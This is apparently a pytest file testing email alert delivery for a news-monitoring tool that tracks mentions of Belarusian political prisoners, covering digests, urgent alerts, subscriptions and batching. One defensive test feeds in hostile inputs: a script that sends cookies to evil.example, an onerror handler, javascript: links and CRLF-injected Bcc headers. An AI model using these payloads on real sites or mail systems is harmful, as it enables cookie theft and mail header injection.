"""Delivery against a real SMTP server: content, batching, subscriptions, digest slots."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from alerts_kit import (
    TEXT,
    add_article,
    analyse,
    make_config,
    mention,
    open_corpus,
    parts,
    smtp_server,  # noqa: F401  (fixture)
)

import store
from monitor import recipients
from monitor.alerts.enqueue import enqueue_for_article
from monitor.alerts.mailer import digest_due, pending_summary, send_due
from store import articles as article_store
from store import batches as batch_store

T0 = datetime(2026, 11, 22, 8, 5, tzinfo=UTC)


@pytest.fixture
def env(tmp_path, smtp_server):  # noqa: F811
    corpus = open_corpus(tmp_path)
    staff = store.open_staff(tmp_path / "staff.db")
    cfg = make_config(tmp_path, port=smtp_server.port)
    yield cfg, corpus, staff, smtp_server
    corpus.close()
    staff.close()


def bialiatski_article(corpus, staff, cfg, url="https://spring96.org/en/news/120001") -> int:
    article_id = add_article(corpus, url=url)
    analyse(corpus, article_id, mentions=[mention(TEXT, 964, "Ales Bialiatski")])
    enqueue_for_article(corpus, staff, cfg, article_id)
    return article_id


def test_a_stored_mention_becomes_exactly_one_email_with_the_right_content(env):
    cfg, corpus, staff, server = env
    recipients.add(staff, "desk@example.org", name="News desk")
    article_id = bialiatski_article(corpus, staff, cfg)

    report = send_due(staff, cfg, now=T0, include_digest=True)
    assert (report.formed, report.sent, report.retry, report.failed) == (1, 1, 0, 0)
    assert report.digest_slot == "2026-11-22T08:00"

    assert server.sink.count() == 1
    envelope = server.sink.received[0]
    assert envelope["mail_from"] == "vigil@example.org"
    assert envelope["rcpt_tos"] == ["desk@example.org"]
    message = server.sink.messages()[0]
    assert message["Subject"] == "[Vigil] Digest: 1 alert about 1 person"
    assert str(message["To"]) == "News desk <desk@example.org>"
    batch = batch_store.list_batches(staff)[0]
    assert message["Message-ID"] == batch["message_id"]
    assert batch["state"] == "sent" and batch["sent_at"]
    text, html = parts(message)
    assert "* Ales Bialiatski (former)" in text
    assert "> According to relatives, [[Ales Bialiatski]] has not been allowed" in text
    assert "<mark>Ales Bialiatski</mark> has not been allowed" in html
    assert '<a href="https://spring96.org/en/news/120001">Founder moved again</a>' in html
    assert f"https://vigil.example.net/corpus/articles/{article_id}" in html
    assert "https://vigil.example.net/corpus/person?id=964" in html
    published = article_store.get_article(corpus, article_id)["published"][:10]
    assert f"Viasna (English), {published}" in text

    # nothing left: later runs send nothing, and enqueueing again adds nothing
    enqueue_for_article(corpus, staff, cfg, article_id)
    assert send_due(staff, cfg, now=T0 + timedelta(hours=12), include_digest=True).sent == 0
    assert server.sink.count() == 1
    assert pending_summary(staff)["queued"] == 0


def release_article(corpus, staff, cfg) -> None:
    """One article: a mention of Bialiatski (digest) and Kalesnikava's release (urgent)."""
    text = TEXT + " Maryia Kalesnikava was released on Friday."
    article_id = add_article(corpus, text=text)
    analyse(corpus, article_id,
            mentions=[mention(text, 964, "Ales Bialiatski"), mention(text, 215, "Maryia Kalesnikava")],
            events=[{"prisoner_id": 215, "type": "released", "term": None,
                     "evidence": "Maryia Kalesnikava was released on Friday."}])
    enqueue_for_article(corpus, staff, cfg, article_id)


def test_urgent_goes_at_once_and_the_rest_waits_for_the_digest(env):
    cfg, corpus, staff, server = env
    recipients.add(staff, "desk@example.org")
    release_article(corpus, staff, cfg)

    first = send_due(staff, cfg, now=T0)
    assert (first.formed, first.sent) == (1, 1)
    urgent = server.sink.messages()[0]
    assert urgent["Subject"] == "[Vigil] Urgent: Maryia Kalesnikava"
    text_part, _ = parts(urgent)
    assert "Reported: released" in text_part and "Bialiatski" not in text_part

    assert send_due(staff, cfg, now=T0 + timedelta(minutes=1)).formed == 0
    digest = send_due(staff, cfg, now=T0 + timedelta(hours=9), include_digest=True)
    assert digest.sent == 1 and digest.digest_slot == "2026-11-22T17:00"
    text_part, _ = parts(server.sink.messages()[1])
    # the mentions of both persons; the release went out already
    assert "[[Ales Bialiatski]]" in text_part and "* Maryia Kalesnikava" in text_part
    assert "Reported: released" not in text_part
    assert server.sink.count() == 2


def test_an_urgent_item_still_pending_at_digest_time_keeps_its_urgent_email(env):
    """The mail job had not run yet when the digest formed (the demo's race): the urgent
    release goes out as its own urgent email, the digest carries the rest."""
    cfg, corpus, staff, server = env
    recipients.add(staff, "desk@example.org")
    release_article(corpus, staff, cfg)

    report = send_due(staff, cfg, now=T0 + timedelta(hours=9), include_digest=True)
    assert (report.formed, report.sent) == (2, 2)
    subjects = sorted(m["Subject"] for m in server.sink.messages())
    assert subjects[0].startswith("[Vigil] Digest") and \
        subjects[1] == "[Vigil] Urgent: Maryia Kalesnikava"
    digest = next(m for m in server.sink.messages() if m["Subject"].startswith("[Vigil] Digest"))
    assert "Reported: released" not in parts(digest)[0]


def test_each_recipient_gets_one_email_with_only_what_it_subscribed_to(env):
    cfg, corpus, staff, server = env
    recipients.add(staff, "all@example.org")
    recipients.add(staff, "kalesnikava@example.org", persons=["215"])
    recipients.add(staff, "other-source@example.org", sources=["salidarnast"])
    bialiatski_article(corpus, staff, cfg)
    text = "A court hearing for Maryia Kalesnikava was postponed."
    second = add_article(corpus, url="https://spring96.org/en/news/120002", text=text,
                         title="Hearing postponed")
    analyse(corpus, second, mentions=[mention(text, 215, "Maryia Kalesnikava")])
    enqueue_for_article(corpus, staff, cfg, second)

    report = send_due(staff, cfg, now=T0, include_digest=True)
    assert report.sent == 2
    by_rcpt = {m["rcpt_tos"][0]: m for m in server.sink.received}
    assert set(by_rcpt) == {"all@example.org", "kalesnikava@example.org"}
    for message in server.sink.messages():
        text_part, _ = parts(message)
        if message["To"].addresses[0].addr_spec == "all@example.org":
            assert "Founder moved again" in text_part and "Hearing postponed" in text_part
        else:
            assert "Founder moved again" not in text_part and "Hearing postponed" in text_part
    assert all(len(m["rcpt_tos"]) == 1 for m in server.sink.received)


def test_digest_slots_are_due_once(env):
    cfg, corpus, staff, server = env
    assert digest_due(staff, cfg, datetime(2026, 11, 22, 7, 59, tzinfo=UTC)) == "2026-11-21T17:00"
    assert digest_due(staff, cfg, T0) == "2026-11-22T08:00"
    send_due(staff, cfg, now=T0, include_digest=True)  # nothing pending: still recorded
    assert digest_due(staff, cfg, T0 + timedelta(hours=1)) is None
    assert digest_due(staff, cfg, T0 + timedelta(hours=9)) == "2026-11-22T17:00"
    assert pending_summary(staff)["last_digest"] == "2026-11-22T08:00"
    assert server.sink.count() == 0


def test_digest_times_follow_the_configured_zone(tmp_path):
    staff = store.open_staff(tmp_path / "staff.db")
    cfg = make_config(tmp_path, vigil_alerts_timezone="Europe/Vilnius")
    # 06:30 UTC is 08:30 in Vilnius in November (UTC+2)
    assert digest_due(staff, cfg, datetime(2026, 11, 22, 6, 30, tzinfo=UTC)) == "2026-11-22T08:00"
    assert digest_due(staff, cfg, datetime(2026, 11, 22, 5, 30, tzinfo=UTC)) == "2026-11-21T17:00"
    staff.close()


def test_an_inactive_or_removed_recipient_gets_nothing(env):
    cfg, corpus, staff, server = env
    recipients.add(staff, "gone@example.org")
    recipients.add(staff, "stays@example.org")
    bialiatski_article(corpus, staff, cfg)
    recipients.remove(staff, "gone@example.org")
    report = send_due(staff, cfg, now=T0, include_digest=True)
    assert report.sent == 1
    assert [m["rcpt_tos"] for m in server.sink.received] == [["stays@example.org"]]


def test_hostile_article_cannot_add_recipients_headers_or_markup(env):
    cfg, corpus, staff, server = env
    recipients.add(staff, "desk@example.org")
    title = ('Court <script>fetch("https://evil.example/?c="+document.cookie)</script>'
             '<img src=x onerror="steal()">\r\nBcc: victim@example.org\r\nX-Injected: yes')
    text = "Ales Bialiatski <a href=\"javascript:alert(1)\">wrote</a> again\r\nBcc: victim@example.org."
    article_id = add_article(corpus, url="javascript:alert(document.domain)", title=title,
                             text=text)
    analyse(corpus, article_id, mentions=[mention(text, 964, "Ales Bialiatski")])
    from alerts_kit import add_candidate

    add_candidate(staff, name="Ihar\r\nBcc: victim@example.org", article_id=article_id,
                  score=0.95, sentence="Ihar was detained.", surface="Ihar")
    enqueue_for_article(corpus, staff, cfg, article_id)

    report = send_due(staff, cfg, now=T0)  # the candidate is urgent: its name is in Subject
    assert report.sent == 1
    assert [m["rcpt_tos"] for m in server.sink.received] == [["desk@example.org"]]
    raw = server.sink.received[0]["content"]
    headers = raw.split(b"\r\n\r\n", 1)[0].decode()
    assert "\nBcc:" not in headers and "\nX-Injected" not in headers
    message = server.sink.messages()[0]
    assert message["Bcc"] is None and message["X-Injected"] is None
    assert message["Subject"] == "[Vigil] Urgent: possible new name Ihar Bcc: victim@example.org"

    send_due(staff, cfg, now=T0 + timedelta(hours=9), include_digest=True)
    assert [m["rcpt_tos"] for m in server.sink.received] == [["desk@example.org"]] * 2
    _, html = parts(server.sink.messages()[1])
    assert "<script" not in html and "<img" not in html and 'onerror="' not in html
    assert "&lt;script&gt;" in html and 'href="javascript:' not in html
    assert '<a href="javascript' not in html and "&lt;a href=&#34;javascript:alert(1)&#34;" in html


def test_a_long_queue_is_spread_over_several_emails(env):
    cfg, corpus, staff, server = env
    recipients.add(staff, "desk@example.org")
    for n in range(5):
        text = f"{TEXT} Item {n}."
        article_id = add_article(corpus, url=f"https://spring96.org/en/news/{140000 + n}",
                                 text=text, title=f"Item {n}")
        analyse(corpus, article_id, mentions=[mention(text, 964, "Ales Bialiatski")])
        enqueue_for_article(corpus, staff, cfg, article_id)
    ids = iter(range(100))
    formed = batch_store.form_batches(staff, include_digest=True, max_per_batch=2,
                                      new_message_id=lambda: f"<m{next(ids)}@example.org>")
    assert [len(batch_store.batch_alert_ids(staff, b)) for b in formed] == [2, 2, 1]
    assert send_due(staff, cfg, now=T0).sent == 3
    assert len({m["Message-ID"] for m in server.sink.messages()}) == 3
